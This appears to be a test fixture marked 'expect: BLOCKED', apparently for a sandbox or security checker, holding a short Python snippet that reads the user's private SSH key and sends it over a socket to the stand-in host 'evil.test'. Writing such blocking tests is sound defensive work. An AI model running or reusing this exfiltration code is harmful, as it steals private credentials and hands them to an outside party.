# expect: BLOCKED
import socket, os
data = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
s = socket.socket()
s.connect(("evil.test", 99))
s.sendall(data)
